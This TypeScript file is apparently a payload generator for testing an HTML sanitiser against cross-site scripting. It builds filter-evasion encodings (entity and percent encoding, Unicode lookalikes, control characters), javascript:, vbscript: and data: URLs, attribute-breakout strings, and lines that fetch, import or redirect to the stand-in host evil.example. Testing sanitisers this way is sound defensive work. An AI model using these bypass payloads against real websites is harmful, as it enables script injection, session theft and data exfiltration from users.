// Spellings that a filter may overlook and that a browser understands.

import type { Rng } from '../seed.ts';

const hex = (text: string) => [...text].map((c) => `&#x${c.codePointAt(0)?.toString(16)};`).join('');
// Without semicolons, and with leading zeros, which parsers of HTML forgive.
const decimal = (text: string) =>
  [...text].map((c) => `&#${String(c.codePointAt(0)).padStart(7, '0')}`).join('');
const percent = (text: string) =>
  [...text].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');

/** Letters that case folding or normalising turns into ASCII ones. */
const LOOKALIKES: Record<string, string> = { s: 'ſ', k: '\u212a', i: 'ı', a: 'ａ', j: 'ｊ' };

/** A name as a tag, an attribute or a scheme might be written. */
export function spelled(rng: Rng, name: string): string {
  const spelling = rng.below(8);
  if (spelling < 4) return name;
  if (spelling < 6) return [...name].map((c) => (rng.once(2) ? c.toUpperCase() : c)).join('');
  if (spelling === 6) return name.toUpperCase();
  return [...name].map((c) => (rng.once(4) ? (LOOKALIKES[c] ?? c) : c)).join('');
}

/** A script that reports by its token which payload ran. */
export function script(rng: Rng, token: string): string {
  const call = `__xss('${token}')`;
  return rng.pick([
    call,
    `alert("${token}")`,
    `window['__x'+'ss']('${token}')`,
    `top.__xss\`${token}\``,
    `eval(atob('${Buffer.from(call).toString('base64')}'))`,
    `\\u005f_xss('${token}')`,
    `[1].map(()=>__xss('${token}'))`,
    `setTimeout("__xss('${token}')")`,
    `import('//evil.example/${token}')`,
    `fetch('//evil.example/${token}')`,
    `location='//evil.example/${token}'`,
    `new Function(\`__xss('${token}')\`)()`,
  ]);
}

/** A script within an attribute. */
export function inAttribute(rng: Rng, token: string): string {
  const plain = script(rng, token);
  const how = rng.below(8);
  if (how === 0) return hex(plain);
  if (how === 1) return decimal(plain);
  if (how === 2) return plain.replaceAll('(', '&lpar;').replaceAll(')', '&rpar;');
  return plain;
}

/** An address that runs something, or loads something. */
export function address(rng: Rng, token: string): string {
  const code = script(rng, token);
  const scheme = spelled(rng, 'javascript');
  const page = `<script>${code}</script>`;
  return rng.pick([
    () => `${scheme}:${code}`,
    () => `${scheme}&colon;${code}`,
    () => `${scheme}&#x3a;${code}`,
    () => `&#106;${scheme.slice(1)}:${code}`,
    () => `${percent(scheme)}:${code}`,
    () => `${scheme.slice(0, 4)}${rng.pick(['&Tab;', '&NewLine;', '\t', '&#0;', '\\\n'])}${scheme.slice(4)}:${code}`,
    () => `${rng.pick(['\u0001', '\u00a0', '\u200b', '\ufeff', '&#14;', '%20'])}${scheme}:${code}`,
    () => `${scheme}://%0a${code}`,
    () => `${scheme}://${token}.example/%0d${code}`,
    () => `view-source:${scheme}:${code}`,
    () => `feed:${scheme}:${code}`,
    () => `${spelled(rng, 'vbscript')}:msgbox("${token}")`,
    () => `${spelled(rng, 'data')}:text/html,${percent(page)}`,
    () => `data:text/html;base64,${Buffer.from(page).toString('base64')}`,
    () => `data:image/svg+xml,<svg onload=${code}>`,
    () => `blob:null/${token}`,
    () => `filesystem:http://127.0.0.1/${token}`,
    () => `file:///etc/passwd?${token}`,
    () => `//evil.example/${token}`,
    () => `\\\\evil.example\\${token}`,
    () => `/data?${token}`,
    () => `?${token}#composer`,
    () => `#note-${token}-1`,
    () => `https://evil.example/${token}"onmouseover="${code}`,
    () => `https://evil.example/${token}'onfocus='${code}`,
    () => `https://evil.example/${token}"><img/src=x/onerror=${code}>`,
    () => `https://evil.example\` onclick=${code} ${token}`,
    () => `https://user:${token}@evil.example`,
    () => `mailto:${token}@evil.example?body="><script>${code}</script>`,
    () => `http://[::1]:1/${token}`,
    () => `HTTPS://evil.example/${token}\u202e/cod.exe`,
  ])();
}
